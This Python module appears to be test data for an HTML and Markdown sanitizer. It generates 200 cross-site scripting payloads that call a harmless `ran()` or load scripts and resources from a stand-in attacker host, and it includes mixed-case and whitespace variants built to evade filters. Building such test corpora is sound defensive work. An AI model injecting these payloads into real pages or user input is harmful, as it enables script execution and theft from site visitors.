"""Two hundred pieces of HTML, Markdown and script that would run or fetch if a page let them.

Each calls `ran()` or fetches from `ADDRESS`; both are told by the browser that shows them.
"""

ADDRESS = "http://attacker.invalid"

_HTML = (
    "<script>ran()</script>",
    "<script src={a}/s.js></script>",
    "<script type=module>import '{a}/m.js'</script>",
    "<img src={a}/i.png>",
    "<img src=x onerror=ran()>",
    "<img srcset='{a}/1.png 1x, {a}/2.png 2x'>",
    "<picture><source srcset={a}/p.png><img></picture>",
    "<svg onload=ran()></svg>",
    "<svg><script>ran()</script></svg>",
    "<svg><image href={a}/v.png /></svg>",
    "<svg><use href='{a}/u.svg#x'/></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran()>",
    "<math><a xlink:href=javascript:ran()>x</a></math>",
    "<iframe src={a}></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data={a}/o></object>",
    "<embed src={a}/e>",
    "<video src={a}/v.mp4 autoplay></video>",
    "<video><source onerror=ran()></video>",
    "<audio src={a}/a.mp3 autoplay onerror=ran()></audio>",
    "<video poster={a}/poster.png></video>",
    "<link rel=stylesheet href={a}/c.css>",
    "<link rel=prefetch href={a}/f>",
    "<link rel=dns-prefetch href={a}>",
    "<style>@import '{a}/i.css';</style>",
    "<style>body {{ background: url({a}/b.png) }}</style>",
    "<p style='background: url({a}/st.png)'>x</p>",
    "<div style='position:fixed;inset:0' onmouseover=ran()>x</div>",
    "<meta http-equiv=refresh content='0;url={a}'>",
    "<base href={a}/>",
    "<form action={a}><input autofocus onfocus=ran()></form>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()></select>",
    "<textarea autofocus onfocus=ran()></textarea>",
    "<button class=citation data-n=1 onclick=ran()>1</button>",
    "<button autofocus onfocus=ran() class=citation data-n='1 x'>1</button>",
    "<details open ontoggle=ran()><summary>x</summary></details>",
    "<marquee onstart=ran()>x</marquee>",
    "<body onload=ran() background={a}/body.png>",
    "<table background={a}/t.png><tr><td>x</td></tr></table>",
    "<a href=javascript:ran() ping={a}/ping>x</a>",
    "<template><script>ran()</script><img src={a}/tm.png></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>",
    "<title><img src=x onerror=ran()></title>",
    "<xss id=x tabindex=1 onfocus=ran() autofocus></xss>",
    "<custom-element onanimationstart=ran() style='animation: spin 1s'></custom-element>",
    "<isindex type=image src={a}/is.png onerror=ran()>",
)
_MARKDOWN = (
    "![그림]({a}/m.png)",
    "![그림][r]\n\n[r]: {a}/r.png",
    "[눌러 보세요](javascript:ran())",
    "[눌러 보세요](JaVaScRiPt:ran())",
    "[눌러 보세요](data:text/html,<script>opener.ran()</script>)",
    "[눌러 보세요](vbscript:ran())",
    "[눌러 보세요]({a}/link 'x\" onclick=\"ran()')",
    "<javascript:ran()>",
    "<{a}/auto>",
    "[1](javascript:ran())",
    "[![그림]({a}/in.png)](javascript:ran())",
    "[눌러&#58;](java&#115;cript:ran())",
    "[a]: javascript:ran()\n\n[눌러 보세요][a]",
    "`<img src=x onerror=ran()>`",
    "```html\n<script>ran()</script>\n```",
    "    <img src={a}/code.png>",
    "| 표 |\n|---|\n| <img src={a}/cell.png> |",
    "> <svg onload=ran()>",
    "- <iframe src={a}>",
    "# <img src=x onerror=ran()>",
    "&lt;img src=x onerror=ran()&gt;",
    "\\<img src=x onerror=ran()>",
    "<!-- --><img src=x onerror=ran()>",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "[1<img src=x onerror=ran()>]",
)


def _twisted(sample: str) -> str:
    """The same with tags in mixed case and odd white space, as filters overlook them."""
    upper = "".join(c.upper() if at % 2 else c for at, c in enumerate(sample))
    kept = {"RAN()": "ran()", ADDRESS.upper(): ADDRESS, "JAVASCRIPT": "java\tscript"}
    kept |= {"PARENT": "parent", "IMPORT": "import"}
    for name, value in kept.items():
        at = upper.upper().find(name)
        while at >= 0:
            upper = upper[:at] + value + upper[at + len(name) :]
            at = upper.upper().find(name, at + len(value) + 1)
    return upper.replace(" ", "\n", 1) if upper.startswith("<") else upper


_HTML_SAMPLES = [sample.format(a=ADDRESS) for sample in _HTML]
SAMPLES: tuple[str, ...] = (
    *_HTML_SAMPLES,
    *(sample.format(a=ADDRESS) for sample in _MARKDOWN),
    *map(_twisted, _HTML_SAMPLES),
    *(f'"><b>{sample}' for sample in _HTML_SAMPLES),
    *(f"<p>[1] {sample}</p>" for sample in _HTML_SAMPLES[:25]),
)
